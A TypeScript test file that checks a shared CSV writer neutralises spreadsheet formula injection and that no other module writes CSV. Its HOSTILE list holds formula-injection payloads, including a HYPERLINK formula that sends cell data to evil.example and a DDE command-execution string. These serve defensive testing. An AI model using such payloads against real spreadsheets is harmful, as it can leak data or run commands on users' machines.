/**
 * The shared CSV writer neutralises formulas and writes a BOM; and it is the only
 * module that may write CSV (any other import of csv-stringify fails this test).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralizeCell, toCsv } from './csv.js';
import { packageRoot } from './paths.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];

describe('CSV writer', () => {
  it('prefixes every cell a spreadsheet would take for a formula with a single quote', () => {
    for (const cell of HOSTILE) expect(neutralizeCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
  });

  it('leaves ordinary text, Chinese, empty cells and numbers alone', () => {
    for (const cell of ['a=b', '王芳', '', ' =still text', '2026-03-01T08:00:00.000Z', '{"rule":"inactive"}']) expect(neutralizeCell(cell)).toBe(cell);
    expect(neutralizeCell(-5)).toBe(-5);
    expect(neutralizeCell(null)).toBe(null);
  });

  it('writes a BOM, a header and rows that read back as the neutralised text', () => {
    const csv = toCsv(['name', 'reason', 'count'], [
      ['王芳', HOSTILE[0], 3],
      ['=1+1', 'line one\nline two, with "quotes"', -2],
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = parse(csv.slice(1)) as string[][];
    expect(rows).toEqual([
      ['name', 'reason', 'count'],
      ['王芳', `'${HOSTILE[0]}`, '3'],
      ["'=1+1", 'line one\nline two, with "quotes"', '-2'],
    ]);
    // no line of the file starts a cell with a formula character
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]/);
  });
});

describe('every CSV export goes through the shared writer', () => {
  it('no module but src/kernel/csv.ts imports csv-stringify', () => {
    const offenders: string[] = [];
    for (const dir of ['src', 'web/src', 'bin', 'scripts']) {
      for (const file of sourceFiles(join(packageRoot, dir))) {
        const rel = relative(packageRoot, file);
        if (rel === join('src', 'kernel', 'csv.ts')) continue;
        if (/['"]csv-stringify(\/[^'"]*)?['"]/.test(readFileSync(file, 'utf8'))) offenders.push(rel);
      }
    }
    expect(offenders).toEqual([]);
  });
});

function* sourceFiles(dir: string): Generator<string> {
  let entries;
  try {
    entries = readdirSync(dir, { withFileTypes: true });
  } catch {
    return;
  }
  for (const e of entries) {
    if (e.name === 'node_modules') continue;
    const path = join(dir, e.name);
    if (e.isDirectory()) yield* sourceFiles(path);
    else if (/\.(c|m)?[jt]sx?$/.test(e.name)) yield path;
  }
}
